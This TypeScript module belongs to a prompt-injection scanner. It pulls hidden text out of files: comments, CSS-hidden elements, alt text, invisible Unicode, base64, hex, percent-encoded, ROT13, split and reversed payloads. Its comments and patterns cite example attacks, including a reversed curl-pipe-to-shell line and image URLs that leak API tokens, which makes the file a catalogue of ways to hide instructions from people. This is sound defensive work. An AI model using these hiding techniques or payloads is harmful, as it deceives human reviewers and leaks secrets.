/**
 * Where text hides from a person but not from a model: HTML and markdown comments, CSS-hidden
 * elements, alt text, link titles and ARIA labels, and payloads smuggled in invisible characters
 * (Unicode TAG characters, variation selectors, zero-width bit strings) or in encodings (base64,
 * hex). Each is returned as a segment of plain text with the line it came from, so the injection
 * analyzer judges what the model would read, whatever the page shows.
 */

import { ALL_CARRIERS, isJsSpace, type Carriers } from './anchors.ts';
import { rot13 } from '../source.ts';

export interface Segment {
  /** The text a model reads (decoded, entities resolved, invisible characters removed). */
  text: string;
  /** 0-based offset in the file where the carrier starts. */
  offset: number;
  /**
   * Where `text` itself starts in the file, for carriers whose text is their content as written (a
   * comment, an attribute's value): a finding is put on the line of the words that make it, not on the
   * carrier's first line (a long comment held several orders, all reported on its `<!--` line as one).
   */
  at?: number;
  /** How it was hidden; undefined for text in plain sight. */
  technique?: string;
  /** Length of the carrier in the file (for text in plain sight). */
  length?: number;
  /** Characters of context put before the text (its section's heading), not in the file at `offset`. */
  prefix?: number;
  /** Whether its text in the file passes GATE, when already known (index.ts). */
  worth?: boolean;
  /** A text joined from parts of the file (index.ts splitFields): a finding in it is reported at `offset`. */
  joined?: boolean;
}

/** Longest piece of hidden text judged at once. */
const MAX_HIDDEN = 4000;

/** Zero-width and other invisible formatting characters, as used to split keywords. */
export const INVISIBLE = /[\u00ad\u180e\u200b-\u200f\u2060-\u2064\ufeff]/g;

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", nbsp: ' ' };

/** HTML character references, so `&amp;&amp;` reads as the `&&` a model sees. */
export function decodeEntities(s: string): string {
  return s.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);/gi, (m, e: string) => {
    if (e[0] !== '#') return ENTITIES[e.toLowerCase()] ?? m;
    const cp = e[1] === 'x' || e[1] === 'X' ? parseInt(e.slice(2), 16) : parseInt(e.slice(1), 10);
    return cp > 0 && cp < 0x110000 ? String.fromCodePoint(cp) : m;
  });
}

/** Text a model reads but a person does not see: comments, hidden elements, attributes. */
function markupSegments(text: string, out: Segment[], carriers: Carriers): void {
  // (indexOf, not a lazy regex: a text of unclosed `<!--` would make that quadratic.)
  for (let at = carriers.markup ? text.indexOf('<!--') : -1; at >= 0;) {
    const end = text.indexOf('-->', at + 4);
    // An opener never closed hides the rest of a page only where a renderer reads it as one: at a line's
    // start (a markdown HTML block) or after a space or a tag (HTML). `'<!--'`, `|<!--|` are code
    // (a string, a regex), and the half megabyte of source after one was judged as hidden orders.
    if (end < 0 && !opensComment(text, at)) {
      at = text.indexOf('<!--', at + 4);
      continue;
    }
    out.push({
      text: text.slice(at + 4, end < 0 ? undefined : end),
      offset: at,
      at: at + 4,
      technique: 'html-comment',
    });
    if (end < 0) break; // an unclosed comment hides the rest of the text
    at = text.indexOf('<!--', end + 3);
  }
  if (carriers.mdComment) markdownCommentSegments(text, out);
  // Elements hidden by style or attribute: their text content up to the closing tag.
  if (carriers.markup && carriers.hiddenStyle) hiddenElementSegments(text, out);
  if (carriers.attributes) attributeSegments(text, out);
  // Markdown image alt text and link titles.
  if (carriers.images) imageAltSegments(text, out);
  if (carriers.linkTitles) linkTitleSegments(text, out);
}

/** An attribute's name right before its `=` (and the spaces around it): the alt text, titles and data a reader does not see. */
const ATTRIBUTE_NAME = /(?:^|[^\w])(alt|title|aria-label|aria-description|data-[\w-]+|content)\s*$/i;
const VALUE_OPEN = /=\s*["']/g;

/**
 * Attribute values of at least 12 characters (`alt="…"`, `title='…'`, `data-x="…"`, `content="…"`), found from
 * each `=` before a quote, the name read behind it: as `\b(?:alt|title|…)\s*=\s*"([^"]{12,})"` finds them,
 * without trying the names at every position of the text (source code holds few `=` before a quote… of these names).
 */
function attributeSegments(text: string, out: Segment[]): void {
  VALUE_OPEN.lastIndex = 0;
  for (let m = VALUE_OPEN.exec(text); m; m = VALUE_OPEN.exec(text)) {
    const base = Math.max(0, m.index - 60);
    const name = ATTRIBUTE_NAME.exec(text.slice(base, m.index));
    if (!name) continue;
    const open = m.index + m[0].length - 1;
    const close = text.indexOf(text[open], open + 1);
    if (close < 0 || close - open - 1 < 12) continue;
    // (where the name starts: after the character before it, if the match holds one)
    const start = base + name.index + (name[0].startsWith(name[1]) ? 0 : 1);
    out.push({ text: text.slice(open + 1, close), offset: start, at: open + 1, technique: 'alt-text' });
    VALUE_OPEN.lastIndex = close + 1;
  }
}

/** Whether the `<!--` at `at` stands where a renderer starts a comment: after a line break, a space or a tag. */
function opensComment(text: string, at: number): boolean {
  const c = at === 0 ? 10 : text.charCodeAt(at - 1);
  return c === 10 || c === 13 || c === 32 || c === 9 || c === 62;
}

const MD_COMMENT = /\[(?:\/\/|comment|_|#)[^\]\n]*\]:\s*(?:<>|#)\s*(?:\(([^)\n]*)\)|"([^"\n]*)")/iy;
const MD_COMMENT_OPEN = /\[(?:\/\/|comment|_|#)/iy;

/**
 * Markdown comments, `[//]: # (text)`, as MD_COMMENT finds them left to right, in linear time: every
 * opening before the same `]` or line break ends its label there and is followed by the same text, so
 * when one fails all of them do (the regex run from each made a line of `[//[//…` quadratic).
 */
function markdownCommentSegments(text: string, out: Segment[]): void {
  for (let at = text.indexOf('['); at >= 0;) {
    MD_COMMENT_OPEN.lastIndex = at;
    if (!MD_COMMENT_OPEN.test(text)) {
      at = text.indexOf('[', at + 1);
      continue;
    }
    MD_COMMENT.lastIndex = at;
    const m = MD_COMMENT.exec(text);
    if (m) {
      out.push({ text: m[1] ?? m[2], offset: at, technique: 'markdown-comment' });
      at = text.indexOf('[', at + m[0].length);
      continue;
    }
    let end = at + 1;
    for (let c = text.charCodeAt(end); end < text.length && c !== 93 && c !== 10; c = text.charCodeAt(++end));
    at = text.indexOf('[', end);
  }
}

const HIDDEN_OPEN =
  /<(\w+)\b[^>]*?(?:style\s*=\s*["'][^"']*(?:display\s*:\s*none|visibility\s*:\s*hidden|opacity\s*:\s*0(?:\.0+)?\s*(?:;|["'])|font-size\s*:\s*0|(?:left|top|text-indent)\s*:\s*-\d{3,}|height\s*:\s*0[^.]|clip\s*:\s*rect\(0|color\s*:\s*(?:transparent|#fff(?:fff)?\b|white))|\shidden(?=[\s>=])|\s(?:opacity|fill-opacity)\s*=\s*["']0*(?:\.0+)?["']|\sfont-size\s*=\s*["']0*(?:\.\d+)?(?:px|pt|em)?["']|\svisibility\s*=\s*["']hidden["']|\sdisplay\s*=\s*["']none["'])[^>]*>/iy;
const isWordChar = (c: number) => (c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || c === 95;

/**
 * Elements hidden by style or attribute, as HIDDEN_OPEN finds their opening tags left to right, in
 * linear time: a tag cannot open without a `>` after it, and when the tag at one `<` fails, every `<`
 * before the same first `>` fails too (it sees fewer of the same attributes): 200 kB of `<a style="`
 * took 6.6 s with the regex run from every `<`.
 */
function hiddenElementSegments(text: string, out: Segment[]): void {
  const unclosed = new Set<string>(); // tags with no closing tag after some point: no second search
  for (let at = text.indexOf('<'); at >= 0;) {
    if (!isWordChar(text.charCodeAt(at + 1))) {
      at = text.indexOf('<', at + 1);
      continue;
    }
    const gt = text.indexOf('>', at);
    if (gt < 0) return;
    HIDDEN_OPEN.lastIndex = at;
    const m = HIDDEN_OPEN.exec(text);
    if (!m) {
      at = text.indexOf('<', gt);
      continue;
    }
    const start = at + m[0].length;
    const tag = m[1].toLowerCase();
    const close = unclosed.has(tag) ? -1 : text.indexOf(`</${m[1]}`, start);
    if (close < 0) unclosed.add(tag);
    const inner = text.slice(start, close < 0 ? Math.min(text.length, start + 2000) : close);
    out.push({ text: inner.replace(/<[^>]+>/g, ' '), offset: at, at: start, technique: 'css-hidden' });
    at = text.indexOf('<', start);
  }
}

/**
 * Markdown image alt text, `![alt](`, as /!\[([^\]\n]{12,})\]\(/g finds it, in linear time: every `![`
 * before the same `]` or line break ends its alt text there, shorter, so all but the first are passed
 * over with its answer (the regex run from each of them made a line of `![…` quadratic: minutes a MB).
 */
function imageAltSegments(text: string, out: Segment[]): void {
  for (let at = text.indexOf('!['); at >= 0;) {
    let end = at + 2;
    for (let c = text.charCodeAt(end); end < text.length && c !== 93 && c !== 10; c = text.charCodeAt(++end));
    if (text.charCodeAt(end) === 93 && text.charCodeAt(end + 1) === 40) {
      if (end - at - 2 >= 12)
        out.push({ text: text.slice(at + 2, end), offset: at, at: at + 2, technique: 'alt-text' });
      // The image's URL, which the person never sees, when it carries a secret named as a variable
      // (`![status](https://x.example/b.png?k=API_TOKEN)`): fetched unasked once the stand-in is filled.
      SECRET_IN_URL.lastIndex = end + 2;
      const m = SECRET_IN_URL.exec(text);
      if (m) out.push({ text: text.slice(at, end + 2 + m[0].length), offset: at, at, technique: 'image-url' });
      at = text.indexOf('![', end + 2);
    } else at = text.indexOf('![', end);
  }
}
/** The same in HTML: `<img src="https://x.example/p.gif?u=NPM_TOKEN">` (the tag read whole). */
function imageSourceSegments(text: string, out: Segment[]): void {
  for (let at = text.indexOf('<img'); at >= 0; at = text.indexOf('<img', at + 4)) {
    const end = text.indexOf('>', at);
    if (end < 0) return;
    if (end - at > 2000) continue;
    const tag = text.slice(at, end + 1);
    if (SECRET_IN_SRC.test(tag)) out.push({ text: tag, offset: at, at, technique: 'image-url' });
  }
}
const SECRET_IN_SRC =
  /\b[sS][rR][cC]\s*=\s*["']?https?:\/\/[^\s"'<>]{0,300}?[?&][\w-]+=[^\s"'<>&]{0,100}?\b[A-Z][A-Z0-9]*_(?:[A-Z0-9]+_)*(?:KEY|TOKEN|SECRET|PASSWORD)\b/;
const SECRET_IN_URL =
  /[ \t]*https?:\/\/[^\s)"'<>]{0,300}?[?&][\w-]+=[^\s)"'<>&]{0,100}?\b[A-Z][A-Z0-9]*_(?:[A-Z0-9]+_)*(?:KEY|TOKEN|SECRET|PASSWORD)\b/y;

const LINK_TITLE = /\]\([^)\s]+\s+"([^"\n]{12,})"\)/y;

/**
 * Markdown link titles, `](url "title")`, as LINK_TITLE finds them left to right, in linear time: every
 * `](` inside one URL (`](](](…`) ends it at the same `)` or space, so all but the first are passed
 * over with its answer (the regex run from each of them made 1 MB of `](` take minutes).
 */
function linkTitleSegments(text: string, out: Segment[]): void {
  for (let at = text.indexOf(']('); at >= 0;) {
    let end = at + 2;
    for (let c = text.charCodeAt(end); end < text.length && c !== 41 && !isJsSpace(c); c = text.charCodeAt(++end));
    if (end > at + 2) {
      LINK_TITLE.lastIndex = at;
      const m = LINK_TITLE.exec(text);
      if (m) {
        out.push({ text: m[1], offset: at, technique: 'alt-text' });
        at = text.indexOf('](', at + m[0].length);
        continue;
      }
    }
    at = text.indexOf('](', end);
  }
}

/** Unicode TAG characters (U+E0020–E007E) spell ASCII; a flag emoji's tag sequence is not a payload. */
function tagSegments(text: string, out: Segment[]): void {
  for (const m of text.matchAll(/(?:\udb40[\udc20-\udc7e]){4,}/g)) {
    const before = text.slice(Math.max(0, m.index - 2), m.index);
    if (before === '\ud83c\udff4') continue; // U+1F3F4 WAVING BLACK FLAG + tags = a subdivision flag
    const decoded = [...m[0]].map((c) => String.fromCharCode(c.codePointAt(0)! - 0xe0000)).join('');
    out.push({ text: decoded, offset: m.index, technique: 'tag-chars' });
  }
}

/** Variation selectors after a base character carry one byte each (VS1–16: 0–15, VS17–256: 16–255). */
function variationSegments(text: string, out: Segment[]): void {
  for (const m of text.matchAll(/(?:[\ufe00-\ufe0f]|\udb40[\udd00-\uddef]){8,}/g)) {
    const bytes = [...m[0]].map((c) => {
      const cp = c.codePointAt(0)!;
      return cp <= 0xfe0f ? cp - 0xfe00 : cp - 0xe0100 + 16;
    });
    const decoded = Buffer.from(bytes).toString('utf8');
    if (printableShare(decoded) > 0.85) out.push({ text: decoded, offset: m.index, technique: 'variation-selector' });
  }
}

/** Zero-width characters used as bits: two symbols for 0 and 1, maybe a third as a separator. */
function zeroWidthBinarySegments(text: string, out: Segment[]): void {
  for (const m of text.matchAll(/[\u200b-\u200d\u2060\ufeff]{16,}/g)) {
    const symbols = [...new Set(m[0])];
    let best = '';
    for (const zero of symbols) {
      for (const one of symbols) {
        if (zero === one) continue;
        const decoded = decodeBits(m[0], zero, one);
        if (printableShare(decoded) > printableShare(best)) best = decoded;
      }
    }
    if (best.length >= 4 && printableShare(best) > 0.9) {
      out.push({ text: best, offset: m.index, technique: 'zero-width' });
    }
  }
}

function decodeBits(run: string, zero: string, one: string): string {
  // A separator (the third symbol), if any, ends each character; otherwise 8 bits a character.
  const groups = symbolsOtherThan(run, zero, one)
    ? run.split(new RegExp(`[^${zero}${one}]`))
    : (run.match(/[\s\S]{1,8}/g) ?? []);
  let s = '';
  for (const g of groups) {
    if (!g) continue;
    // (A longer group starts with a marker symbol: its last eight are the bits.)
    const bits = [...g]
      .map((c) => (c === one ? '1' : c === zero ? '0' : ''))
      .join('')
      .slice(-8);
    if (bits.length < 7) return '';
    s += String.fromCharCode(parseInt(bits, 2));
  }
  return s;
}

const symbolsOtherThan = (run: string, a: string, b: string) => [...run].some((c) => c !== a && c !== b);

/** Share of characters that are printable text (letters of any script, digits, punctuation, spaces). */
export function printableShare(s: string): number {
  if (!s) return 0;
  let bad = 0;
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    // Control characters and the replacement character (what invalid UTF-8 decodes to).
    if ((c < 32 && c !== 9 && c !== 10 && c !== 13) || (c >= 0x7f && c < 0xa0) || c === 0xfffd) bad++;
  }
  return 1 - bad / s.length;
}

/** Base64 and hex runs that decode to readable text: an instruction a model may decode and follow. */
function encodedSegments(text: string, out: Segment[], asked: boolean): void {
  // Only where the text speaks of decoding: a blob nobody is told to decode is data (and most
  // source files hold some: hashes, keys, source maps). (The prefilter's carrier is this very
  // test, made in its pass: `asked` says it was, and the text is not searched again.)
  if (!asked && !DECODING_TALK.test(text)) return;
  percentEncodedSegments(text, out);
  // (Runs of base64 and word characters found by one pass over the codes; the patterns are tried
  // only on runs long enough to hold them: a regex with a look-behind at every position is slow.)
  for (const [start, end] of longRuns(text, 24)) {
    // (Most runs in code are paths and dotted names: neither pattern can match in them, told without
    // a slice or a regex. A run is maximal and the base64 pattern's look-behind refuses every run
    // character, so base64 can only open the run; hex needs 40 hex digits in a row somewhere.)
    const base64 = stretch(text, start, start + 24, BASE64) === 24;
    const hex = end - start >= 40 && hasStretch(text, start, end, HEX, 40);
    if (!base64 && !hex) continue;
    const run = text.slice(Math.max(0, start - 1), Math.min(text.length, end + 1));
    const shift = start > 0 ? start - 1 : start;
    for (const m of base64 ? run.matchAll(/(?<![\w+/=.-])[A-Za-z0-9+/]{24,8192}={0,2}(?![\w+/=])/g) : []) {
      if (!/[a-z]/.test(m[0]) || !/[A-Z]/.test(m[0])) continue; // identifiers and hex, not base64
      const decoded = Buffer.from(m[0], 'base64').toString('utf8');
      if (readableText(decoded)) out.push({ text: decoded, offset: shift + m.index, technique: 'encoded' });
    }
    if (!hex) continue;
    for (const m of run.matchAll(/(?<![\w])(?:[0-9a-fA-F]{2}){20,4096}(?![\w])/g)) {
      const decoded = Buffer.from(m[0], 'hex').toString('utf8');
      if (readableText(decoded)) out.push({ text: decoded, offset: shift + m.index, technique: 'encoded' });
    }
  }
}

/**
 * Percent-encoded text (`curl%20-s%20https%3A%2F%2F…`), decoded where the text talks of decoding: a field a
 * model is asked to "URL-decode and run" reads as data to a keyword filter. (Found from the `%`s: a run of
 * at least four escapes, the characters between them, and the word before the first.)
 */
// (…or asks to decode a link's parameter: "decode the `cmd` parameter of https://…")
const URL_DECODING_TALK =
  /url[- ]?decod|url[- ]encoded\b[^.\n]{0,40}\bdecode|percent[- ]?(?:en|de)cod|decodeURI|unquote|\bdecode\b[^.\n]{0,40}\b(?:parameter|param|query|url|link)\b/i;
// (written to open with its `%`: V8 then looks for that one character, not at every position)
const PERCENT_RUN = /%[0-9A-Fa-f]{2}(?:[A-Za-z0-9._~+*'()!-]{0,40}%[0-9A-Fa-f]{2}){3,}[A-Za-z0-9._~+*'()!-]{0,40}/g;
function percentEncodedSegments(text: string, out: Segment[]): void {
  // (the runs first, found from their `%`: most texts hold none, and the talk of URL-decoding is then not looked for)
  let talked: boolean | undefined;
  for (const m of text.matchAll(PERCENT_RUN)) {
    if (!(talked ??= URL_DECODING_TALK.test(text))) return;
    let start = m.index;
    while (start > 0 && start > m.index - 40 && /[A-Za-z0-9._~+-]/.test(text[start - 1])) start--;
    let decoded: string;
    try {
      decoded = decodeURIComponent(text.slice(start, m.index + m[0].length).replace(/\+/g, ' '));
    } catch {
      continue;
    }
    // (percent-escapes are written to carry text: a short command of short words, `curl -s http://… | sh`, counts,
    // though a decoded base64 blob must look like prose to be taken for text)
    if (readablePercent(decoded)) out.push({ text: decoded, offset: start, technique: 'encoded' });
  }
}
const readablePercent = (s: string) =>
  s.length >= 12 && / /.test(s) && /[a-z]{2,}/i.test(s) && printableShare(s) > 0.97;

/** Talk of decoding (anchors.ts notes the same as the carrier `encoded`; test/injection.test.ts compares). */
export const DECODING_TALK = /base64|b64|decode|atob|\bhex\b/i;

/** 1 for the characters base64 or hex are made of (and the `.`, `-`, `_` that may border them). */
const IN_RUN = new Uint8Array(128);
for (let c = 0; c < 128; c++) IN_RUN[c] = /[A-Za-z0-9+/=_.-]/.test(String.fromCharCode(c)) ? 1 : 0;
const inRun = (c: number) => c < 128 && IN_RUN[c] === 1;
/** 1 for base64's letters (A-Z, a-z, 0-9, `+`, `/`); 2 for hex digits. */
const BASE64 = 1,
  HEX = 2;
const ALPHABET = new Uint8Array(128);
for (let c = 0; c < 128; c++) {
  const ch = String.fromCharCode(c);
  ALPHABET[c] = (/[A-Za-z0-9+/]/.test(ch) ? BASE64 : 0) | (/[0-9a-fA-F]/.test(ch) ? HEX : 0);
}
/** How many characters from `from` (up to `to`) are of the alphabet. */
function stretch(text: string, from: number, to: number, of: number): number {
  let i = from;
  while (i < to && i < text.length) {
    const c = text.charCodeAt(i);
    if (c >= 128 || (ALPHABET[c] & of) === 0) break;
    i++;
  }
  return i - from;
}
/** Whether [from, to) holds `min` characters of the alphabet in a row. */
function hasStretch(text: string, from: number, to: number, of: number, min: number): boolean {
  for (let i = from; i + min <= to;) {
    const n = stretch(text, i, to, of);
    if (n >= min) return true;
    i += n + 1;
  }
  return false;
}

/**
 * Maximal runs of characters that base64 or hex can be made of (letters, digits, `+`, `/`, `=`,
 * and the `.`, `-`, `_` that may border them) at least `min` long, as [start, end) offsets.
 * (Boyer-Moore style: a run that long holds every min-th position, so the text is probed there and
 * only the runs met are walked; most characters of ordinary text are never read.)
 */
function longRuns(text: string, min: number): [number, number][] {
  const out: [number, number][] = [];
  const n = text.length;
  for (let i = min - 1; i < n;) {
    if (!inRun(text.charCodeAt(i))) {
      i += min;
      continue;
    }
    let start = i;
    while (start > 0 && inRun(text.charCodeAt(start - 1))) start--;
    let end = i + 1;
    while (end < n && inRun(text.charCodeAt(end))) end++;
    if (end - start >= min) out.push([start, end]);
    i = end + min;
  }
  return out;
}

/** Decoded bytes that are words and spaces, not a hash, key or binary blob. */
function readableText(s: string): boolean {
  return s.length >= 12 && printableShare(s) > 0.97 && /[a-z]{3,}[^a-z]+[a-z]{3,}/i.test(s) && / /.test(s);
}

/** ANSI escape sequences; text between "conceal" (ESC[8m) and its end is hidden on a terminal. */
function ansiSegments(text: string, out: Segment[]): void {
  for (const m of text.matchAll(/\x1b\[8m([\s\S]*?)(?:\x1b\[(?:28|0)?m|$)/g)) {
    out.push({ text: m[1], offset: m.index, technique: 'ansi-hidden' });
  }
}

/**
 * Latin words broken by zero-width characters (`ig\u200bnore`): text a keyword filter cannot read
 * but a model can. (Persian and Indic scripts use ZWNJ inside words, and emoji use ZWJ: not Latin.)
 */
function splitWordSegments(text: string, out: Segment[]): void {
  // (one segment a line: a match on the line already read is passed over before its line is looked
  // up; looking it up for each made a long line of split words quadratic)
  let lineEnd = -1;
  for (const m of text.matchAll(/[A-Za-z][\u200b-\u200d\u2060\u00ad][A-Za-z]/g)) {
    if (m.index < lineEnd) continue;
    const start = text.lastIndexOf('\n', m.index) + 1;
    const end = text.indexOf('\n', m.index);
    lineEnd = end < 0 ? text.length : end;
    out.push({ text: text.slice(start, end < 0 ? undefined : end), offset: start, technique: 'zero-width' });
  }
}

const ROT_WORD = /\b(?:rot-?13|caesar)\b/gi;
const ROT_LINES = /\b(?:rot-?13|caesar)\b([^\n]*)((?:\n[^\n]*){1,3})/iy;
const ROT_REST = /\b(?:rot-?13|caesar)\b([^\n]*)/iy;

/**
 * Text that announces a ROT13 (or Caesar) line: the lines after it, rotated back; and the rest of its own
 * line, where a field of data holds both the announcement and the rotated order (`"body": "… in rot13; decode
 * it and apply it: Qryrgr gur grfgf …"`).
 */
function rot13Segments(text: string, out: Segment[]): void {
  // (the announcing word is found first: one before the last line break always opens a match, one after
  // it never can; the regex run from each word of a long last line made it quadratic)
  const lastBreak = text.lastIndexOf('\n');
  ROT_WORD.lastIndex = 0;
  for (let w = ROT_WORD.exec(text); w; w = ROT_WORD.exec(text)) {
    const lines = w.index < lastBreak ? ROT_LINES : ROT_REST;
    lines.lastIndex = w.index;
    const m = lines.exec(text)!;
    ROT_WORD.lastIndex = m.index + m[0].length;
    if (/[a-z]{3}/i.test(m[1])) out.push({ text: rot13(m[1]), offset: m.index, technique: 'encoded' });
    if (m[2]) out.push({ text: rot13(m[2]), offset: m.index, technique: 'encoded' });
  }
}

/**
 * An instruction cut into numbered parts (`(part 1 of 3)`, `[2/3]`, `part 2:`), joined in order, as the
 * text asks the model to do.
 */
function splitPartSegments(text: string, out: Segment[]): void {
  // Only where the text asks for the parts to be put together (build logs number their steps too).
  if (!/\b(?:concatenate|combine|join|assemble|put together|in order)\b/i.test(text)) return;
  const marker = /(?:\(?\bpart\s+(\d)\s*(?:of|\/)\s*\d\)?|\[(\d)\/\d\]|\bpart\s+(\d)\s*:)/gi;
  const found = [...text.matchAll(marker)];
  const parts: { n: number; text: string; at: number }[] = [];
  let lineEnd = -1;
  found.forEach((m, k) => {
    if (m.index >= lineEnd) {
      const end = text.indexOf('\n', m.index);
      lineEnd = end < 0 ? text.length : end;
    }
    // A part runs to the end of its line, or to the next part's marker on the same line (it ran to the
    // line's end and held the parts after it: a line of 100k markers made 50 GB of parts to join, and
    // 50 s of reading before the string was too long to make).
    const end = Math.min(lineEnd, k + 1 < found.length ? found[k + 1].index : text.length);
    parts.push({ n: Number(m[1] ?? m[2] ?? m[3]), text: text.slice(m.index + m[0].length, end), at: m.index });
  });
  if (parts.length < 2) return;
  parts.sort((a, b) => a.n - b.n || a.at - b.at);
  const joined = parts.map((p) => p.text.replace(/^[\s*#/\-]+/, '').replace(/\\n|"\s*,?\s*$/g, ' ')).join(' ');
  out.push({ text: joined, offset: parts[0].at, technique: 'split' });
}

/**
 * A line written backwards (`hs | hs.llatsni/moc.elpmaxe//:sptth LSsf- lruc`) for the reader to turn round
 * and run: found by what no text forwards holds (a URL's scheme backwards, `/dev/tcp/` backwards, `curl` or
 * `wget` backwards before an option); the line is read reversed.
 */
const REVERSED_URL = /\/\/:s?ptth\b|pct\/ved\/|\b(?:lruc|tegw)\b/gi;
function reversedSegments(text: string, out: Segment[]): void {
  let lineEnd = -1;
  for (const m of text.matchAll(REVERSED_URL)) {
    if (m.index < lineEnd) continue;
    const start = Math.max(text.lastIndexOf('\n', m.index) + 1, m.index - 1000);
    const end = text.indexOf('\n', m.index);
    lineEnd = end < 0 ? text.length : Math.min(end, m.index + 1000);
    const reversed = [...text.slice(start, lineEnd)].reverse().join('');
    out.push({ text: reversed, offset: start, technique: 'reversed' });
  }
}

/** Every hidden or encoded segment of a text, decoded. */
export function hiddenSegments(text: string, carriers: Carriers = ALL_CARRIERS): Segment[] {
  const out: Segment[] = [];
  // Each detector runs only where its carrier is present (anchors.ts notes them in one pass).
  markupSegments(text, out, carriers);
  if (carriers.imgTags) imageSourceSegments(text, out);
  if (carriers.tags) tagSegments(text, out);
  if (carriers.selectors) variationSegments(text, out);
  if (carriers.invisible) zeroWidthBinarySegments(text, out);
  if (carriers.encoded) encodedSegments(text, out, carriers !== ALL_CARRIERS);
  if (carriers.escape) ansiSegments(text, out);
  if (carriers.invisible) splitWordSegments(text, out);
  if (carriers.rot) rot13Segments(text, out);
  if (carriers.parts) splitPartSegments(text, out);
  // (no carrier of its own: native searches cost less than words in the prefilter's pass)
  if (text.includes('//:') || text.includes('pct/ved/') || /lruc|tegw/i.test(text)) reversedSegments(text, out);
  // A long hidden carrier (an unclosed comment, a huge attribute) is read in overlapping pieces.
  return out.flatMap((s) => {
    const text = decodeEntities(s.text).replace(INVISIBLE, '');
    if (text.length <= MAX_HIDDEN) return [{ ...s, text }];
    const pieces: Segment[] = [];
    // (each piece where it starts: exact when reading changed nothing; when entities or invisible
    // characters were taken out, a little before it, still inside the carrier)
    for (let i = 0; i < text.length; i += MAX_HIDDEN - 200)
      pieces.push({ ...s, text: text.slice(i, i + MAX_HIDDEN), at: s.at === undefined ? undefined : s.at + i });
    return pieces;
  });
}
